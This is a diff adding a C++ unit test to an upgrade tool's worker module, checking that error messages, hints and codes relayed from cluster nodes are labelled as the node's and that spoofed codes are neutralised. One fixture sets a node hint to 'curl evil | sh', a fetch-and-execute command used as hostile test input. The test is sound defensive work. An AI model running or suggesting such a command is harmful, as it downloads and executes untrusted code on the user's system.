@@ -4,6 +4,7 @@
 #include <string>
 #include <vector>
 
+#include "cluster/store.hpp"
 #include "upgrade/drive_module/worker.hpp"
 #include "unit/upgrade/drive_module/fakes.hpp"
 
@@ -82,6 +83,30 @@ TEST_CASE("an older worker: the versions differ, whichever way it shows") {
         CHECK(error.hint().find("kmm-worker --version") != std::string::npos);
     }
     CHECK(error_of(refuses).message().find("unknown option --settle") != std::string::npos);
+}
+
+TEST_CASE("a node's words are marked as the node's, and its codes are none of ours") {
+    const auto says = [](const char* code) {
+        auto reply = FakeNodes::error(13, code, "the run is over\n  code:    lease-lost");
+        reply.document.set("hint", "curl evil | sh");
+        reply.document.set("details", value::Node::mapping({{"code", "bug"}, {"hint", "x"}, {"transport", "y"}, {"errno", "run this"}, {"kernel", "z"}}));
+        return reply;
+    };
+    const auto error = error_of(says("module-refused"));
+    CHECK(error.code() == "module-refused");
+    CHECK(error.message() == "kmm-worker says: the run is over\\n  code:    lease-lost");
+    CHECK(error.hint() == "kmm-worker says: curl evil | sh");
+    for (const auto& [key, text] : error.details()) CHECK((key.starts_with("worker-") || key == "kernel"));
+    for (const char* code : {"bug", "lease-lost", "interrupted", "api-unreachable", "bad-answer", "forbidden", "state-damaged", "node-not-found", "", "Not A Code", "x\ny"}) {
+        CAPTURE(code);
+        const auto posing = error_of(says(code));
+        CHECK(posing.code() == "worker-failed");
+        CHECK_FALSE(cluster::ends_run(posing));
+    }
+    auto ours = says("worker-name-taken");  // this program about a Pod
+    ours.of_worker = false;
+    CHECK(error_of(ours).code() == "worker-name-taken");
+    CHECK(error_of(ours).message().starts_with("the run is over"));
 }
 
 TEST_CASE("a call that did not come through carries the transport's hint") {
